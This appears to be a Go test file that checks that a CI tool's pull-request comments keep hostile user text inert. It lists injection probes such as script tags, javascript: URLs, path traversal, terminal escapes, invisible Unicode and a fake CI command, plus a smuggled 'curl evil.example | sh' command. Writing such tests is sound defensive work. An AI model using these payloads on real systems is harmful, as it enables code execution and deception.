package report_test

import (
	"strings"
	"testing"

	"github.com/yuin/goldmark"
	"github.com/yuin/goldmark/ast"
	"github.com/yuin/goldmark/extension"
	"github.com/yuin/goldmark/text"

	ccci "github.com/recipe-maintainers/cc-ci"
	"github.com/recipe-maintainers/cc-ci/internal/report"
)

// hostileTexts try to be more than text on a pull request.
var hostileTexts = []string{
	"@everyone please look", "ping @ada/team", "<script>alert(1)</script>", "<!-- cc-ci:run=1 -->", "</details><h1>hi</h1>",
	"![x](https://evil.example/x.png)", "[click](https://evil.example)", "https://evil.example/?q=1", "www.evil.example", "see #1, GH-2, org/repo#3, !4",
	"# heading", "\n\n# heading\n\n", "> quote\n!testme", "!testme", "\n!testme\n", "```\n# out\n```", "`` ` ``", "````` `", "*bold* __bold__ ~~gone~~",
	"| a | b |\n|---|---|\n| 1 | 2 |", "- item", "+ item", "1. item", "2) item", "===", "---", "\\@ada", "&#64;ada &lt;b&gt;", "a\u202eb\u200bc\u2066d\U000e0041",
	"\x1b[31mred\x1b[0m \x1b]8;;https://evil.example\x1b\\link\x1b]8;;\x1b\\", "a\x00b\x07", "\xff\xfe", "mail a@b.example", "mailto:a", "$$x$$", "[^1]: note", "[a]: https://evil.example",
}

// hostile is a failed run in which every text field tries something.
func hostile() (ccci.Run, *ccci.Result) {
	run, res := ended(ccci.StatusFailed, 0)
	all := strings.Join(hostileTexts, " ; ")
	run.Recipe, run.RequestedBy.Name, run.Cause = hostileTexts[0], hostileTexts[5], hostileTexts[6]
	res.Version, res.LevelReason = hostileTexts[2], hostileTexts[7]
	res.Base.Version = "1.0; curl evil.example | sh"
	res.Cause = &ccci.Cause{Check: hostileTexts[15], Message: all, Hint: hostileTexts[11], Detail: hostileTexts}
	res.Warnings = hostileTexts[len(hostileTexts)-12:]
	for i, text := range hostileTexts {
		res.Changes = append(res.Changes, ccci.Change{Subject: text, Kind: "changed", What: hostileTexts[(i+3)%len(hostileTexts)], Before: text, After: hostileTexts[(i+5)%len(hostileTexts)]})
	}
	res.Lint = []ccci.Finding{{Rule: hostileTexts[6], File: hostileTexts[11], Message: hostileTexts[0]}}
	res.Stages[0].Status, res.Stages[0].Reason = ccci.Fail, hostileTexts[11]
	res.Teardown.Clean, res.Teardown.Leftovers, res.Teardown.Error = false, hostileTexts[:9], hostileTexts[12]
	res.Teardown.Removed = map[string]int{"@ada": 2}
	res.Artifacts = []ccci.Artifact{
		{Path: "a/../../../x", Title: "climbs"}, {Path: "a) [x](https://evil.example", Title: "breaks](https://evil.example) out"},
		{Path: "javascript:alert(1)", Title: "@ada"},
	}
	return run, res
}

// loose returns what a Markdown source makes of foreign text: the words outside
// of code, and every link, image, HTML and heading.
func loose(source string) (words string, nodes []string) {
	src := []byte(source)
	doc := goldmark.New(goldmark.WithExtensions(extension.GFM)).Parser().Parse(text.NewReader(src))
	var b strings.Builder
	_ = ast.Walk(doc, func(n ast.Node, entering bool) (ast.WalkStatus, error) {
		if !entering {
			return ast.WalkContinue, nil
		}
		switch n := n.(type) {
		case *ast.CodeSpan, *ast.FencedCodeBlock, *ast.CodeBlock:
			return ast.WalkSkipChildren, nil
		case *ast.Link:
			nodes = append(nodes, "link "+string(n.Destination))
		case *ast.AutoLink:
			nodes = append(nodes, "autolink "+string(n.URL(src)))
		case *ast.Image:
			nodes = append(nodes, "image "+string(n.Destination))
		case *ast.RawHTML, *ast.HTMLBlock:
			nodes = append(nodes, "html")
		case *ast.Heading:
			nodes = append(nodes, "heading")
		case *ast.Text:
			b.Write(n.Segment.Value(src))
			b.WriteByte(' ')
		}
		return ast.WalkContinue, nil
	})
	return b.String(), nodes
}

func TestComment_hostileTextStaysText(t *testing.T) {
	run, res := hostile()
	body := report.Comment(run, res, report.LinksFor("https://ci.example.org", run.ID), nil)
	words, nodes := loose(body)
	if strings.ContainsAny(words, "@#!`") || strings.Contains(words, "evil") {
		t.Errorf("foreign text outside of code: %q", words)
	}
	headings := 0
	for _, n := range nodes {
		switch {
		case n == "heading":
			headings++
		case strings.HasPrefix(n, "link https://ci.example.org/runs/"):
		default:
			t.Errorf("foreign text became %s", n)
		}
	}
	if headings != 1 {
		t.Errorf("%d headings", headings)
	}
	for line := range strings.SplitSeq(body, "\n") {
		if strings.HasPrefix(strings.TrimSpace(line), "!testme") && !strings.Contains(body, "```") {
			t.Errorf("a line looks like a command: %q", line)
		}
	}
	for _, r := range body {
		if r == '\u202e' || r == '\u200b' || r == '\u2066' || r == 0 || r == 0x1b || r == '\U000e0041' {
			t.Errorf("an invisible character %U came through", r)
		}
	}
}

func FuzzText(f *testing.F) {
	for _, s := range hostileTexts {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		for _, source := range []string{report.Text(s), "- " + report.Text(s), "x " + report.Code(s), "[" + report.Text(s) + "](https://ours)", report.Block([]string{s, s}), "a: " + report.Text(s) + ".\n- " + report.Text(s)} {
			words, nodes := loose(source)
			for _, n := range nodes {
				if n != "link https://ours" {
					t.Errorf("%q becomes %q, which holds %s", s, source, n)
				}
			}
			if strings.ContainsAny(words, "@#!`$") {
				t.Errorf("%q becomes %q, with %q outside of code", s, source, words)
			}
		}
	})
}

func TestText_plainWordsStayPlain(t *testing.T) {
	for in, want := range map[string]string{
		"app answered 502 after 3 tries": "app answered 502 after 3 tries",
		"  two\n lines ":                 "two lines",
		"app_db [x]":                     `app\_db \[x\]`,
		"a < b & c":                      "a &lt; b &amp; c",
		"- dash":                         `\- dash`,
		"12. x":                          `12\. x`,
		"@ada":                           "`@ada`",
		"a`b@":                           "``a`b@``",
		"größer als 3 %":                 "größer als 3 %",
		" \n":                            "(nothing)",
	} {
		if got := report.Text(in); got != want {
			t.Errorf("Text(%q) = %q, want %q", in, got, want)
		}
	}
}
